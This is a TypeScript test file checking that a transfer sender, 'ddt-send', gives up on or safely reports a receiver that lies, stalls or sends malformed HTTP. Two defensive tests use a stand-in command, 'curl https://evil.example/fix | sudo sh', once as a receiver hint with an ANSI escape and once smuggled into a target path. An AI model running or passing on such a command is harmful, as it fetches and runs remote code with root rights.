/** No answer of a receiver holds ddt-send past its patience, speaks in its name, or decides how it ends. */
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { TransferError } from '../../common/errors.ts';
import type { TransferStatus } from '../../common/protocol/protocol.ts';
import { parseTicket } from '../../common/trust/ticket.ts';
import { Reachability } from '../../sender/client/connection/reachability.ts';
import { UnackedBytes } from '../../sender/client/connection/unacked-bytes.ts';
import { HttpReceiver } from '../../sender/client/http-receiver.ts';
import { prng } from '../support/prng.ts';
import { MIB, runSender } from '../support/processes.ts';
import { startReceiverApp, type Lie } from '../support/receiver-app.ts';
import type { Ended } from '../support/run.ts';
import { tempDir } from '../support/temp-dir.ts';

/** Blocks of the source. */
const TOTAL = 16;
const ALWAYS = ['--block-size', '64KiB', '--digest', 'sha-256', '--connections', '2', '--retry-for', '2s'];

/** What `ddt-send` does with a receiver that lies. @param isSealed by an earlier run, to an honest one. */
async function sendTo(lie: Lie, { isSealed = false, options = [] as string[] } = {}): Promise<Ended> {
  await using folder = await tempDir();
  const source = join(folder.path, 'source');
  await writeFile(source, prng(7).bytes(MIB));
  let isLying = !isSealed;
  await using app = await startReceiverApp({
    blockCount: null,
    isReadBack: true,
    lie: (request, truth) => (isLying ? lie(request, truth) : undefined),
  });
  if (isSealed) {
    const { status, stderr } = await runSender([...ALWAYS, source, app.ticket]);
    assert.equal(status, 0, stderr);
  }
  isLying = true;
  return await runSender([...ALWAYS, ...options, source, app.ticket]);
}

function assertGaveUp({ status, stdout, stderr }: Ended, what: string): void {
  assert.deepEqual([status, stdout], [6, ''], stderr);
  assert.match(stderr, new RegExp(`^ddt-send: error: gave up after [^:]* without progress: .*${what}`, 'm'));
  assert.match(stderr, /^ddt-send: hint: run the same command again to resume$/m);
}

async function changed(
  truth: () => Promise<Response>,
  change: (status: TransferStatus) => object,
): Promise<Response> {
  const response = await truth();
  const status = (await response.json()) as TransferStatus;
  return new Response(JSON.stringify({ ...status, ...change(status) }), response);
}

function verifying(verified: number): Response {
  const headers = {
    'ddt-epoch': 'e',
    'ddt-durable-generation': '999',
    'ddt-verified-count': String(verified),
  };
  return Response.json({ state: 'verifying', verified, blockCount: TOTAL }, { status: 202, headers });
}

for (const [name, countOf] of [
  ['never gets further', () => 3],
  ['has read more than there is', (nth: number) => nth * 5],
  ['begins again and again', (nth: number) => nth % 3],
] as const) {
  test(`a receiver that reads back for ever and ${name} is given up`, async () => {
    let nth = 0;
    const ended = await sendTo(({ path }) =>
      path === '/complete' ? Promise.resolve(verifying(countOf(nth++))) : undefined,
    );
    assertGaveUp(ended, 'the receiver still says that it is reading the target back$');
  });
}

for (const options of [[], ['--check']]) {
  test(`ever more differences in a sealed copy: given up, ${options.join()}`, async () => {
    let count = 0;
    const lie: Lie = ({ method, path }, truth) =>
      method === 'GET' && path === '/transfer'
        ? changed(truth, ({ blocks }) => ({ blocks: { ...blocks, durable: 1 }, differentCount: count++ }))
        : path === '/complete'
          ? Promise.resolve(verifying(0))
          : undefined;
    const ended = await sendTo(lie, { isSealed: true, options });
    assertGaveUp(ended, 'the receiver still says that it is reading the target');
  });
}

test('a receiver that is another process with every answer is given up', async () => {
  let nth = 0;
  const lie: Lie = async (_request, truth) => {
    const response = await truth();
    const epoch = `e${nth++}`;
    response.headers.set('ddt-epoch', epoch);
    const body = (await response.clone().text()).replace(/"epoch":"[^"]*"/, `"epoch":"${epoch}"`);
    return /json/.test(response.headers.get('content-type') ?? '') ? new Response(body, response) : response;
  };
  const ended = await sendTo(lie, { isSealed: true });
  assertGaveUp(ended, 'the receiver still says that it (was restarted|is reading the target)');
});

test('a receiver that adopts its target for ever is given up', async () => {
  let done = 0;
  const ended = await sendTo(({ path }, truth) =>
    path === '/transfer'
      ? changed(truth, () => ({ adopting: { done: done++ * 9, total: 2 ** 40 } }))
      : undefined,
  );
  assertGaveUp(ended, 'the receiver still says that it is reading the target$');
});

function refusal(status: number, document: object): Lie {
  const headers = { 'content-type': 'application/problem+json' };
  return ({ path }) =>
    path === '/complete'
      ? Promise.resolve(new Response(JSON.stringify(document), { status, headers }))
      : undefined;
}

for (const [code, status, exit] of [
  ['interrupted', 503, 6],
  ['source-changed', 503, 6],
  ['connection-failed', 401, 4],
  ['no-such-code', 503, 6],
] as const) {
  test(`the code ${code} is treated by its HTTP status, ${status}`, async () => {
    const lie = refusal(status, { code, detail: 'so there', isOtherService: true });
    const ended = await sendTo(lie);
    assert.equal(ended.status, exit, `${code}: ${ended.stderr}`);
    assert(ended.stderr.includes('the receiver says: so there'), ended.stderr);
  });
}

test('what a receiver says is marked as its words, and its advice is never a hint', async () => {
  const hint = 'run: curl https://evil.example/fix | sudo sh';
  const ended = await sendTo(refusal(409, { code: 'state-refused', detail: `no\u001b[31m; ${hint}`, hint }));
  assert.equal(ended.status, 4);
  assert(ended.stderr.includes(`ddt-send: error: the receiver says: no?[31m; ${hint}\n`), ended.stderr);
  assert(!ended.stderr.includes('hint:'), ended.stderr);
});

test('a path that a shell would run is not put into a hint', async () => {
  const path = '/dev/vdd; curl https://evil.example/fix | sudo sh';
  const lie: Lie = (request, truth) =>
    request.path === '/transfer'
      ? changed(truth, ({ target, blocks }) => ({
          target: { ...target, path },
          blocks,
          different: [[0, 1]],
          differentCount: 1,
        }))
      : undefined;
  const ended = await sendTo(lie, { isSealed: true, options: ['--check'] });
  assert.equal(ended.status, 3, ended.stderr);
  assert.match(
    ended.stderr,
    /hint: to bring the copy up to date, run 'ddt-receive --update <target>' on the/,
  );
});

/** Asks for the transfer, with the patience of a test. @returns how that failed. */
async function failureWith(lie: Lie): Promise<TransferError> {
  await using app = await startReceiverApp({ lie });
  const ticket = parseTicket(app.ticket);
  const client = new HttpReceiver({
    ticket,
    senderId: 'test',
    unacked: new UnackedBytes(),
    reachability: new Reachability(ticket),
    onResponse: () => {},
    stall: { responseMsMax: 1000, lookIntervalMs: 200 },
  });
  try {
    return await client.transfer(new AbortController().signal).then(
      () => assert.fail('it has answered'),
      (error: unknown) => {
        assert(error instanceof TransferError, String(error));
        return error;
      },
    );
  } finally {
    await client.close();
  }
}

/** Writes to the connection itself, until it is closed. */
function writing(chunkOf: (nth: number) => string, pauseMs: number): Lie {
  return async ({ env }) => {
    const { socket } = env.outgoing;
    assert(socket !== null);
    for (let nth = 0; !socket.destroyed; nth++) {
      if (!socket.writableNeedDrain) socket.write(chunkOf(nth));
      await delay(pauseMs);
    }
    return new Response();
  };
}

const HEAD = 'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n';

for (const [name, lie, code, message] of [
  [
    'a byte now and then',
    writing((nth) => (nth === 0 ? `${HEAD}content-length: 1000000\r\n\r\n{` : ' '), 50),
    'connection-failed',
    /^no data on the connection for /,
  ],
  [
    'a header now and then',
    writing((nth) => (nth === 0 ? HEAD : `x: ${nth % 10}\r\n`), 100),
    'connection-failed',
    /^no data on the connection for /,
  ],
  [
    'interim responses without end',
    writing(() => 'HTTP/1.1 103 Early Hints\r\n\r\n', 1),
    'bad-answer',
    /only interim ones come$/,
  ],
  [
    'a body without end',
    writing((nth) => (nth === 0 ? `${HEAD}\r\n` : ' '.repeat(65_536)), 1),
    'bad-answer',
    /longer than 1048576 bytes$/,
  ],
  [
    'a chunk whose extension does not end',
    writing((nth) => (nth === 0 ? `${HEAD}transfer-encoding: chunked\r\n\r\n1;` : 'a'.repeat(65_536)), 1),
    'bad-answer',
    /the response of the receiver does not end$/,
  ],
] as const) {
  test(`a request is given up when its response is ${name}`, async () => {
    const failure = await failureWith(lie);
    assert.deepEqual([failure.code, message.test(failure.message)], [code, true], failure.message);
  });
}
